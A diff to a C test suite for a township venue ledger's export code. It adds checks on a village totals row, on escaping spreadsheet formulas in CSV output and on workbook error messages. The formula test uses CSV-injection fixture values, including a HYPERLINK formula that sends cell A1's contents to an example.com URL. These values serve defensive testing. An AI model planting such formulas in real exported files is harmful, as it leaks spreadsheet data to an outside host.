@@ -6,6 +6,7 @@
  */
 #include "config.h"
 
+#include <math.h>
 #include <string.h>
 
 #include "fg-store-private.h"
@@ -159,7 +160,8 @@ export_and_read (FgLedgerKind  kind,
 
   rows = read_back (path, NULL);
   skip = format == FG_LEDGER_FORMAT_XLSX ? 2 : 0;
-  g_assert_cmpuint (rows->len, ==, skip + 1 + n_rows);
+  /* the summary by village has a row of totals below its rows */
+  g_assert_cmpuint (rows->len, ==, skip + 1 + n_rows + (kind == FG_LEDGER_VILLAGES ? 1 : 0));
   if (skip > 0)
     {
       GStrv title = g_ptr_array_index (rows, 0);
@@ -438,8 +440,47 @@ test_ledger_villages (void)
                     "     AND v.status = 'active' AND v.smoke_alarm = 1)"
                     " FROM region r WHERE r.level = 3 AND r.deleted = 0 ORDER BY r.code");
       static const int columns[] = { 1, 2, 5, 6, 7, 10, -1 };
-      g_autoptr(GPtrArray) actual = pick (rows, columns);
+      g_autoptr(GPtrArray) actual = NULL;
+      g_auto(GStrv) total = NULL;
+      gint64 sums[12] = { 0, };
       guint n_found = 0;
+
+      /* the last row is the totals: the sums, and the rates of the sums */
+      total = g_strdupv (g_ptr_array_index (rows, rows->len - 1));
+      g_ptr_array_remove_index (rows, rows->len - 1);
+      actual = pick (rows, columns);
+      g_assert_cmpstr (total[0], ==, "");
+      g_assert_cmpstr (total[1], ==, "Total");
+      for (guint i = 0; i < rows->len; i++)
+        {
+          GStrv row = g_ptr_array_index (rows, i);
+
+          for (guint c = 2; c < 12; c++)
+            sums[c] += g_ascii_strtoll (row[c], NULL, 10);
+        }
+      for (guint c = 2; c < 12; c++)
+        {
+          if (c == 4 || c == 8 || c == 11)
+            continue;
+          g_assert_cmpint (g_ascii_strtoll (total[c], NULL, 10), ==, sums[c]);
+        }
+      assert_share (total[4], sums[3], sums[2]);
+      assert_share (total[8], sums[7], sums[6]);
+      assert_share (total[11], sums[10], sums[2]);
+      /* not the average of the villages' rates, which differs here */
+      {
+        double mean = 0;
+
+        for (guint i = 0; i < rows->len; i++)
+          {
+            GStrv row = g_ptr_array_index (rows, i);
+            double share = g_ascii_strtod (row[4], NULL);
+
+            mean += g_str_has_suffix (row[4], "%") ? share / 100 : share;
+          }
+        mean /= rows->len;
+        g_assert_cmpfloat (fabs (mean - (double) sums[3] / sums[2]), >, 0.001);
+      }
 
       g_assert_cmpuint (expected->len, >, 3);
       assert_same_rows (actual, expected, FALSE);
@@ -608,6 +649,133 @@ test_ledger_atomic (void)
   g_unlink (old);
 }
 
+/* Text a spreadsheet would take for a formula is written to CSV with an
+ * apostrophe before it; numbers, negative ones too, stay numbers. The
+ * workbook holds such text as text, as it is. */
+static void
+test_ledger_csv_formulas (void)
+{
+  g_auto(FgTestDir) dir = { NULL, };
+  g_autoptr(GError) error = NULL;
+  g_autoptr(FgStore) store = NULL;
+  g_autoptr(FgRegion) village = NULL;
+  g_autoptr(FgRegion) grid = NULL;
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autofree char *csv = NULL;
+  g_autofree char *xlsx = NULL;
+  FgActor *actor = fg_test_installer ();
+  FgLedgerQuery query = { FG_LEDGER_VENUES, NULL, NULL, NULL, demo_today };
+  static const char * const names[] = {
+    "=HYPERLINK(\"http://example.com/x?\"&A1,\"点击\")", "-1+2", "+86 商店", "@SUM(1)", "普通小店",
+  };
+  guint found = 0;
+
+  fg_test_dir_init (&dir);
+  csv = g_build_filename (dir.dir, "venues.csv", NULL);
+  xlsx = g_build_filename (dir.dir, "venues.xlsx", NULL);
+  store = fg_test_township_new (&dir, &village, &grid);
+  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
+    {
+      g_autoptr(FgVenue) venue = fg_test_venue_new (fg_region_get_id (village), names[i], "李庄村东街1号",
+                                                    "shop", "王老板");
+
+      fg_venue_set_floor_area (venue, 120.5);
+      fg_venue_save (store, actor, venue, &error);
+      g_assert_no_error (error);
+    }
+
+  g_assert_true (fg_ledger_export (store, actor, &query, FG_LEDGER_FORMAT_CSV, csv, NULL, &error));
+  g_assert_no_error (error);
+  rows = read_back (csv, NULL);
+  for (guint i = 1; i < rows->len; i++)
+    {
+      GStrv row = g_ptr_array_index (rows, i);
+
+      /* the number and the area are numbers, as they were */
+      g_assert_true (g_regex_match_simple ("^[0-9]+$", row[0], 0, 0));
+      g_assert_cmpstr (row[9], ==, "120.5");
+      if (g_str_equal (row[1], "普通小店"))
+        continue;
+      g_assert_true (row[1][0] == '\'');
+      for (guint j = 0; j < G_N_ELEMENTS (names); j++)
+        found += g_str_equal (row[1] + 1, names[j]);
+    }
+  g_assert_cmpuint (found, ==, G_N_ELEMENTS (names) - 1);
+  g_clear_pointer (&rows, g_ptr_array_unref);
+
+  g_assert_true (fg_ledger_export (store, actor, &query, FG_LEDGER_FORMAT_XLSX, xlsx, NULL, &error));
+  g_assert_no_error (error);
+  rows = read_back (xlsx, NULL);
+  found = 0;
+  for (guint i = 3; i < rows->len; i++)
+    for (guint j = 0; j < G_N_ELEMENTS (names); j++)
+      found += g_str_equal (((GStrv) g_ptr_array_index (rows, i))[1], names[j]);
+  g_assert_cmpuint (found, ==, G_N_ELEMENTS (names));
+}
+
+/* What libxlsxwriter says is for the debug log: the person exporting
+ * reads our words, and what to do. */
+static void
+test_ledger_workbook_errors (void)
+{
+  g_auto(FgTestDir) dir = { NULL, };
+  g_autoptr(GError) error = NULL;
+  g_autoptr(FgStore) store = NULL;
+  g_autoptr(FgRegion) village = NULL;
+  g_autoptr(FgRegion) grid = NULL;
+  g_autoptr(FgVenue) venue = NULL;
+  g_autofree char *xlsx = NULL;
+  g_autofree char *csv = NULL;
+  g_autofree char *folder = NULL;
+  g_autoptr(GString) long_name = g_string_new (NULL);
+  FgActor *actor = fg_test_installer ();
+  FgLedgerQuery query = { FG_LEDGER_VENUES, NULL, NULL, NULL, demo_today };
+
+  fg_test_dir_init (&dir);
+  xlsx = g_build_filename (dir.dir, "venues.xlsx", NULL);
+  csv = g_build_filename (dir.dir, "venues.csv", NULL);
+  folder = g_build_filename (dir.dir, "a-folder.xlsx", NULL);
+  store = fg_test_township_new (&dir, &village, &grid);
+  venue = fg_test_venue_new (fg_region_get_id (village), "李庄超市", "李庄村东街1号", "shop", "王老板");
+  fg_venue_save (store, actor, venue, &error);
+  g_assert_no_error (error);
+
+  /* a folder where the file should go */
+  g_assert_cmpint (g_mkdir (folder, 0755), ==, 0);
+  g_assert_false (fg_ledger_export (store, actor, &query, FG_LEDGER_FORMAT_XLSX, folder, NULL, &error));
+  g_assert_error (error, FG_LEDGER_ERROR, FG_LEDGER_ERROR_WRITE);
+  g_assert_nonnull (strstr (error->message, "is a folder"));
+  g_clear_error (&error);
+  g_assert_true (g_file_test (folder, G_FILE_TEST_IS_DIR));
+
+  /* an address longer than a cell of a workbook holds, as an old
+   * database could have it (the venue form allows no such thing) */
+  for (guint i = 0; i < 40000; i++)
+    g_string_append_c (long_name, 'x');
+  {
+    g_autoptr(sqlite3_stmt) stmt = fg_store_prepare (store, "UPDATE venue SET address = ?1", &error);
+
+    g_assert_no_error (error);
+    sqlite3_bind_text (stmt, 1, long_name->str, -1, SQLITE_STATIC);
+    g_assert_true (fg_store_step_done (store, stmt, &error));
+    g_assert_no_error (error);
+  }
+
+  g_assert_false (fg_ledger_export (store, actor, &query, FG_LEDGER_FORMAT_XLSX, xlsx, NULL, &error));
+  g_assert_error (error, FG_LEDGER_ERROR, FG_LEDGER_ERROR_WRITE);
+  /* libxlsxwriter's words: "String exceeds Excel's limit of 32,767 characters." */
+  g_assert_null (strstr (error->message, "exceeds"));
+  g_assert_null (strstr (error->message, "Excel"));
+  g_assert_nonnull (strstr (error->message, "32,767"));
+  g_assert_nonnull (strstr (error->message, "CSV"));
+  g_clear_error (&error);
+  g_assert_false (g_file_test (xlsx, G_FILE_TEST_EXISTS));
+
+  /* as it says: the CSV holds it */
+  g_assert_true (fg_ledger_export (store, actor, &query, FG_LEDGER_FORMAT_CSV, csv, NULL, &error));
+  g_assert_no_error (error);
+}
+
 static void
 export_done (GObject      *source,
              GAsyncResult *result,
@@ -669,6 +837,8 @@ main (int   argc,
   g_test_add_func ("/ledger/refusals", test_ledger_refusals);
   g_test_add_func ("/ledger/atomic", test_ledger_atomic);
   g_test_add_func ("/ledger/async", test_ledger_async);
+  g_test_add_func ("/ledger/csv-formulas", test_ledger_csv_formulas);
+  g_test_add_func ("/ledger/workbook-errors", test_ledger_workbook_errors);
 
   status = g_test_run ();
   demo_tear_down ();
